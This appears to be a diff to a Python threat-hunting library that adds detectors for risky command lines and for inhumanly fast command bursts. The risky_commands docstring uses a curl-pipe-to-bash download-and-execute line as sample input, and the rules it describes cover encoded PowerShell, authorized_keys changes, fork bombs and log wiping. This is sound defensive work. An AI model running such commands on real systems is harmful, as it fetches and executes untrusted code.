@@ -1,4 +1,5 @@
-"""Security transforms on DataFrames: IoC extraction, base64 unpacking, auditd, masking.
+"""Security transforms on DataFrames: IoC extraction, base64 unpacking, auditd,
+command-line rules, masking.
 
 Each function takes and returns pandas DataFrames with MSTICPy's column names, so code
 written for MSTICPy keeps working; the work runs in Rust, on all cores, without the
@@ -34,6 +35,8 @@ __all__ = [
     "AuditdWarning",
     "mask",
     "MASK_KEY_VARIABLE",
+    "risky_commands",
+    "cmd_speed",
 ]
 
 #: The environment variable :func:`mask` reads its key from.
@@ -212,6 +215,72 @@ def parse_auditd(
     for problem in problems:
         warnings.warn(problem, AuditdWarning, stacklevel=2)
     return to_frame(batch)
+
+
+def risky_commands(
+    data: pd.DataFrame,
+    cmd_column: str = "Command",
+    *,
+    time_column: str = "TimeGenerated",
+    rules: Optional[Union[str, "os.PathLike[str]"]] = None,
+) -> pd.DataFrame:
+    """Command lines that match risky-command rules (download-and-execute, encoded
+    PowerShell, authorized_keys changes, fork bombs, log wiping, ...).
+
+    Base64 inside a command is decoded first and checked too. Returns one row per hit:
+    ``SourceIndex`` (the source row's index label), ``TimeGenerated`` (when the input
+    has it), ``Command, RuleId, RuleName, Severity, MatchedText, MatchedIn``.
+
+    Args:
+        data: the commands, e.g. from :func:`parse_auditd` (``cmd_column="cmdline"``).
+        cmd_column: the column with the command lines (MSTICPy's default ``Command``).
+        time_column: copied into the result when present.
+        rules: a JSON rule file (huntbook's or MSTICPy's layout) instead of the
+            shipped rules.
+
+    Example::
+
+        >>> cmds = pd.DataFrame({"Command": ["curl -s http://203.0.113.9/x | bash"]})
+        >>> huntbook.risky_commands(cmds)[["RuleName", "Severity"]]
+    """
+    columns = [c for c in (cmd_column, time_column) if c in data.columns] or [cmd_column]
+    batch = _huntbook.risky_commands(
+        to_batch(data, columns),
+        cmd_column,
+        time_column,
+        rules_path=None if rules is None else os.fspath(rules),
+    )
+    result = to_frame(batch)
+    result["SourceIndex"] = data.index.take(result["SourceIndex"].to_numpy())
+    return result
+
+
+def cmd_speed(
+    data: pd.DataFrame,
+    cmd_column: str = "Command",
+    *,
+    time_column: str = "TimeGenerated",
+    session_column: Optional[str] = None,
+    time_window: float = 5.0,
+    events: int = 10,
+) -> pd.DataFrame:
+    """Bursts of commands too fast for a person: ``events`` + 1 commands within
+    ``time_window`` seconds, per session when ``session_column`` is given.
+
+    Returns one row per burst: ``Session, StartTime, EndTime, DeltaSeconds,
+    SourceIndexes`` (the index labels of the commands), ``Commands``.
+
+    Example::
+
+        >>> huntbook.cmd_speed(events, "cmdline", session_column="ses", time_window=2, events=5)
+    """
+    columns = [c for c in (cmd_column, time_column, session_column) if c]
+    batch = _huntbook.cmd_speed(
+        to_batch(data, columns), cmd_column, time_column, session_column, time_window, events
+    )
+    result = to_frame(batch)
+    result["SourceIndexes"] = [list(data.index.take(rows)) for rows in result["SourceIndexes"]]
+    return result
 
 
 def mask(
